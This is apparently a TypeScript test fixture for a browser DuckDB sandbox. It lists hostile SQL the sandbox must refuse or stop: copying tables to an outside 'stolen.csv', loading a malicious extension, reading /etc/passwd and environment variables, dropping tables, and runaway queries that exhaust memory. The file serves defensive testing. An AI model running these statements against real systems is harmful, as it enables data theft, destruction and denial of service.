/** What must become of a hostile statement: refused with a reason, or stopped (by a cancel, or by its own failure). */
export interface Hostile {
  readonly what: string;
  readonly sql: string;
}

/** Statements that try to leave the page's origin; `address` is another origin that answers everyone. */
export function waysOut(address: string): readonly Hostile[] {
  const sqls = [
    `SELECT * FROM read_csv('${address}/data.csv')`,
    `SELECT * FROM read_csv(['${address}/a.csv', '${address}/b.csv'])`,
    `SELECT * FROM read_csv_auto('${address}/data.csv')`,
    `SELECT * FROM sniff_csv('${address}/data.csv')`,
    `SELECT * FROM read_text('${address}/data.csv')`,
    `SELECT * FROM read_blob('${address}/data.csv')`,
    `SELECT * FROM read_json('${address}/data.json')`,
    `SELECT * FROM read_parquet('${address}/data.parquet')`,
    `SELECT * FROM parquet_metadata('${address}/data.parquet')`,
    `SELECT * FROM '${address}/data.csv'`,
    `SELECT * FROM '${address}/data.parquet'`,
    `SELECT * FROM glob('${address}/*.csv')`,
    `SELECT * FROM arrow_scan('${address}')`,
    `COPY (SELECT * FROM fact) TO '${address}/stolen.csv'`,
    `COPY my.loot FROM '${address}/data.csv'`,
    `EXPORT DATABASE '${address}/out'`,
    `IMPORT DATABASE '${address}/in'`,
    `ATTACH '${address}/other.duckdb' AS other`,
    `ATTACH '${address}/other.db' AS other (TYPE sqlite)`,
    `CREATE TABLE my.loot AS FROM read_csv('${address}/data.csv')`,
    `CREATE VIEW my.loot AS FROM read_csv('${address}/data.csv')`,
    `WITH loot AS (FROM read_text('${address}/data.csv')) SELECT * FROM loot`,
    `SELECT (SELECT content FROM read_text('${address}/' || name)) FROM fact LIMIT 1`,
    `EXPLAIN ANALYZE SELECT * FROM read_csv('${address}/data.csv')`,
    `PREPARE p AS SELECT * FROM read_csv('${address}/data.csv')`,
    `SELECT 1; SELECT * FROM read_csv('${address}/data.csv')`,
    `INSTALL httpfs FROM '${address}'; LOAD httpfs`,
    `INSTALL icu; LOAD icu`,
    `LOAD '${address}/evil.duckdb_extension.wasm'`,
    `FORCE INSTALL spatial FROM '${address}'; LOAD spatial`,
    `SET custom_extension_repository = '${address}'; LOAD httpfs`,
    `SELECT * FROM read_csv('s3://bucket/data.csv')`,
    `CREATE SECRET s (TYPE S3, ENDPOINT '${address}')`,
  ];
  return sqls.map((sql) => ({ what: sql.replaceAll(address, '…'), sql }));
}

/** Statements that reach for files, settings, secrets, the data or the session itself. */
export const refusals: readonly string[] = [
  "SELECT * FROM read_csv('atlas.duckdb')",
  "SELECT * FROM read_text('/etc/passwd')",
  "SELECT * FROM read_blob('other.duckdb')",
  "SELECT * FROM glob('/**')",
  "COPY (SELECT 1) TO 'out.csv'",
  "COPY fact TO '/dev/stdout'",
  "EXPORT DATABASE 'out'",
  "ATTACH 'new.duckdb' AS other",
  "ATTACH ':memory:' AS other",
  "SELECT 1; /* quietly */ ATTACH ':memory:' AS other",
  'DETACH my',
  'USE my',
  "SET schema = 'my'",
  'CREATE TEMP TABLE lost AS SELECT 1',
  'CREATE MACRO my.lost(a) AS a',
  'CREATE TABLE memory.lost AS SELECT 1',
  'BEGIN TRANSACTION',
  'INSTALL icu',
  'LOAD icu',
  'SET enable_external_access = true',
  'SET autoload_known_extensions = true',
  'SET lock_configuration = false',
  'SET GLOBAL allow_unsigned_extensions = true',
  "SET temp_directory = '/tmp'",
  "SET memory_limit = '100GB'",
  'RESET lock_configuration',
  "PRAGMA memory_limit='1GB'",
  'PRAGMA enable_profiling',
  'PRAGMA disable_verification',
  "SELECT getenv('HOME')",
  "SELECT which_secret('s3://a', 's3')",
  "CREATE PERSISTENT SECRET s (TYPE HTTP, BEARER_TOKEN 'x')",
  'DELETE FROM fact',
  'UPDATE fact SET value = 0',
  'DROP TABLE fact',
  'ALTER TABLE fact DROP COLUMN value',
  'CREATE TABLE atlas.evil AS SELECT 1',
  "SELECT json_extract('{}', '$.a')",
  `SELECT ${'('.repeat(50_000)}1${')'.repeat(50_000)}`,
  `SELECT ${Array.from({ length: 40_000 }, (_, index) => index).join('+')}`,
];

/** Statements that never end, or end in all of the memory. */
export const bombs: readonly string[] = [
  'SELECT count(*) FROM range(100000) a, range(100000) b WHERE a.range * b.range % 7 = 3',
  'WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r',
  'WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n FROM r) SELECT * FROM r',
  "SELECT repeat('x', 3000000000)",
  "SELECT length(repeat('x', 1000000000))",
  "SELECT lpad('x', 2000000000, 'y')",
  'SELECT range(1000000000)',
  'SELECT list(range) FROM range(1000000000)',
  "SELECT string_agg(range::VARCHAR, repeat('y', 1000)) FROM range(100000000)",
  "CREATE TABLE my.big AS SELECT range, repeat('x', 200) || range AS t FROM range(100000000)",
  'SELECT * FROM range(1000000000) ORDER BY hash(range)',
  'SELECT * FROM range(1000000000)',
  'SELECT list_transform(range(10000000), x -> list_transform(range(1000), y -> x + y))',
  'SELECT (SELECT count(*) FROM range(1000000000) WHERE range % 3 = x) FROM generate_series(1, 1000) a(x)',
  'CREATE OR REPLACE VIEW my.v AS SELECT 1 AS a; EXPLAIN ANALYZE SELECT count(*) FROM range(100000) a, range(1000000) b',
];

/** Two hundred kilobytes of SQL that is well-formed, to be answered or refused. */
export const longStatements: readonly string[] = [
  `SELECT length('${'x'.repeat(200_000)}') AS n`,
  `SELECT count(*) AS n FROM fact WHERE id IN (${Array.from({ length: 30_000 }, (_, index) => index).join(', ')})`,
  `SELECT ${Array.from({ length: 9_000 }, (_, index) => `${index} AS c${index}`).join(', ')}`,
];
